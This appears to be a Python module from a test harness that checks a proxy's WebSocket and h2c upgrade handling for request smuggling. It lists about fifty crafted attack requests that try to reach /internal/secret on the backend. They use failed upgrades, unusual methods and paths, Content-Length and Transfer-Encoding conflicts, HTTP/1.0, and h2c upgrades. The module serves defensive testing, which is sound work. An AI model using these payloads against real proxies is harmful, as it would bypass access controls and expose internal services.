"""The attacks. Each wants a second request, for /internal/secret, to reach the server behind.

a  an upgrade that is answered with an error, and a proxy that believes in the tunnel
b  an upgrade of another method or path, and an answer that looks like one to an upgrade
c  bodies: Content-Length, Transfer-Encoding and both, on an upgrade
d  more bytes behind an upgrade at once; old and other versions of HTTP; h2c
"""

from contextlib import suppress
from dataclasses import dataclass

import h2.connection

from harness import frames
from harness.peer import handshake
from harness.waiting import limit
from smuggling.naive_backend import PATH

SECRET_REQUEST = (f"GET {PATH} HTTP/1.1\r\nHost: localhost\r\n\r\n").encode()
_WRONG = {"Sec-WebSocket-Version": "1337"}
_SETTINGS = "AAMAAABkAARAAAAAAAIAAAAA"


@dataclass(frozen=True)
class Attack:
    kind: str
    name: str
    pieces: tuple  # each is sent when the one before it is answered

    def __str__(self):
        return f"{self.kind}: {self.name}"


def _upgrade(path="/ws/echo", behind=b"", **fields):
    return handshake(path, body=behind, **fields)


def _then(kind, name, path="/ws/echo", **fields):
    """The second request, once the first is answered; and both at once."""
    first = _upgrade(path, **fields)
    return (Attack(kind, name, (first, SECRET_REQUEST)),
            Attack(kind, f"{name}, at once", (first + SECRET_REQUEST,)))


def _body(name, body, **headers):
    replace = {key.replace("_", "-"): value for key, value in headers.items()}
    return (Attack("c", name, (_upgrade(behind=body, replace=replace),)),
            Attack("c", f"{name}, wrong version",
                   (_upgrade(behind=body, replace={**_WRONG, **replace}),)))


def _h2c(name, path="/ws/echo", **headers):
    """An upgrade to h2c; then HTTP/2, whose stream 3 is the second request."""
    fields = {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings",
              "HTTP2-Settings": _SETTINGS, **headers}
    client = h2.connection.H2Connection()
    client.initiate_upgrade_connection()
    client.send_headers(3, [(":method", "GET"), (":path", PATH), (":scheme", "http"),
                            (":authority", "localhost")], end_stream=True)
    first = handshake(path, replace=fields)
    rest = client.data_to_send()
    return (Attack("d", name, (first, rest)), Attack("d", f"{name}, at once", (first + rest,)))


_SIZE = str(len(SECRET_REQUEST))
_CHUNKED = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SECRET_REQUEST), SECRET_REQUEST)
_NO_CHUNK = b"0\r\n\r\n" + SECRET_REQUEST

ATTACKS = (
    *_then("a", "wrong version", replace=_WRONG),
    *_then("a", "no version", replace={"Sec-WebSocket-Version": None}),
    *_then("a", "no key", replace={"Sec-WebSocket-Key": None}),
    *_then("a", "bad key", replace={"Sec-WebSocket-Key": "x"}),
    *_then("a", "bad origin", replace={"Origin": "https://evil.example"}),
    *_then("a", "not signed in", "/ws/private"),
    *_then("a", "keep-alive too", replace={**_WRONG, "Connection": "keep-alive, Upgrade"}),
    *_then("a", "spelled otherwise", replace={**_WRONG, "Upgrade": "WebSocket",
                                              "Connection": "UPGRADE"}),
    *_then("b", "POST", method="POST", replace={"Content-Length": "0"}),
    *_then("b", "HEAD", method="HEAD"),
    *_then("b", "OPTIONS", method="OPTIONS"),
    *_then("b", "a page", "/page"),
    *_then("b", "no such page", "/missing"),
    *_then("b", "publish", "/ws/publish/x", method="POST", replace={"Content-Length": "0"}),
    *_then("b", "an answer of 101", "/ws/confused"),
    *_then("b", "a page of 101", "/confused.cgi"),
    *_body("Content-Length", SECRET_REQUEST, Content_Length=_SIZE),
    *_body("chunked", _CHUNKED, Transfer_Encoding="chunked"),
    *_body("both, no chunk", _NO_CHUNK, Content_Length=str(len(_NO_CHUNK)),
           Transfer_Encoding="chunked"),
    *_body("both, no length", _CHUNKED, Content_Length="0", Transfer_Encoding="chunked"),
    *_body("two lengths", SECRET_REQUEST, Content_Length=["0", _SIZE]),
    *_body("length 0", SECRET_REQUEST, Content_Length="0"),
    *_body("length +0", SECRET_REQUEST, Content_Length="+0"),
    *_body("chunked, twice", _NO_CHUNK, Transfer_Encoding="chunked, chunked"),
    *_body("chunked behind a tab", _NO_CHUNK, Transfer_Encoding="\tchunked"),
    *_body("chunked and identity", _NO_CHUNK, Transfer_Encoding=["identity", "chunked"]),
    *_body("length named in Connection", SECRET_REQUEST, Content_Length=_SIZE,
           Connection="Upgrade, Content-Length"),
    Attack("c", "chunked request behind an upgrade", (_upgrade() + handshake(
        "/ws/echo", method="POST", replace={"Transfer-Encoding": "chunked"}, body=_NO_CHUNK),)),
    Attack("c", "key named in Connection", (_upgrade(replace={
        "Connection": "Upgrade, Sec-WebSocket-Key"}), SECRET_REQUEST)),
    *_then("d", "accepted"),
    *_then("d", "HTTP/1.0", http="1.0"),
    *_then("d", "HTTP/1.0 that stays", http="1.0", replace={"Connection": "keep-alive, Upgrade"}),
    *_then("d", "close and upgrade", replace={"Connection": "close, Upgrade"}),
    *_then("d", "no upgrade in Connection", replace={"Connection": "keep-alive"}),
    *_then("d", "no Connection", replace={"Connection": None}),
    *_then("d", "upgrade in a second line", replace={"Connection": ["keep-alive", "Upgrade"]}),
    *_then("d", "another protocol", replace={"Upgrade": "other"}),
    *_then("d", "another protocol, not signed in", "/ws/private", replace={"Upgrade": "other"}),
    Attack("d", "frames, then a request",
           (_upgrade() + frames.text("x") + frames.close(1000) + SECRET_REQUEST,)),
    Attack("d", "three in a row", (_upgrade() + _upgrade() + SECRET_REQUEST,)),
    *_h2c("h2c"),
    *_h2c("h2c, not signed in", "/ws/private"),
    *_h2c("h2c or websocket", Upgrade="h2c, websocket"),
    *_h2c("websocket or h2c", Upgrade="websocket, h2c"),
    *_h2c("websocket or h2c, wrong version", Upgrade="websocket, h2c", **_WRONG),
    *_h2c("h2c, Upgrade alone", Connection="Upgrade"),
    *_h2c("h2c and websocket in two lines", Upgrade=["h2c", "websocket"]),
)


def h2c_at(path):
    """An upgrade to h2c at a path where the module has no say."""
    return _h2c("h2c elsewhere", path)[0]


def launch(peer, attack):
    """Does it; returns all that came back until the connection ended, or nothing came any more."""
    came = b""
    for piece in attack.pieces:
        peer.send(piece)
        if piece is not attack.pieces[-1]:
            while b"\r\n\r\n" not in peer.buffer and _hears(peer):
                pass
            came += bytes(peer.buffer)
            peer.buffer.clear()
    with suppress(OSError):  # the connection may be over
        peer.finish_sending()
    while _hears(peer):
        pass
    return came + bytes(peer.buffer)


def _hears(peer):
    """A proxy may say nothing at all: mod_proxy passes no 101 on to HTTP/1.0."""
    try:
        return peer._receive(limit(4))
    except AssertionError:
        return False
